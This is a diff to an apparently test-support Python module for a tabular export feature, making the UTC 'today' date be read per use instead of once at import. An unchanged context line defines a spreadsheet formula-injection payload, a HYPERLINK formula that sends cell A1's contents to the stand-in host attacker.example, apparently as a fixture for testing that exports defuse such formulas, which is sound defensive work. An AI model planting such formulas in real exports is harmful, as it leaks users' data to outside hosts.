@@ -37,7 +37,14 @@ PRACTITIONER = "tellonce-practitioner-indicators"
 BRIEF = "tellonce-brief-screen"
 HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Open")'
 ALL = [c.value for c in Category]
-TODAY = utcnow().date()  # exports select by UTC completion date
+
+
+def today() -> date:
+    """Today in UTC, which exports select by (completion date). Read per use, not once at import: a run
+    that crosses midnight UTC would otherwise ask for yesterday's screenings."""
+    return utcnow().date()
+
+
 MINI_YAML = """
 id: export-mini
 version: {version}
@@ -132,7 +139,7 @@ class Scene:
 
     def export(self, fmt: str = "csv", *, to: str = "b", categories: list[str] | None = None, **options: Any) -> str:
         """The whole export as text."""
-        terms = (getattr(self, to).id, TODAY - timedelta(days=1), TODAY, categories or ALL, "care_coordination")
+        terms = (getattr(self, to).id, today() - timedelta(days=1), today(), categories or ALL, "care_coordination")
         planned = tabular.prepare(self.db, self.registry, self.supervisor, *terms)
         return "".join(tabular.stream(self.db, self.keys, self.registry, planned, fmt, **options))
 
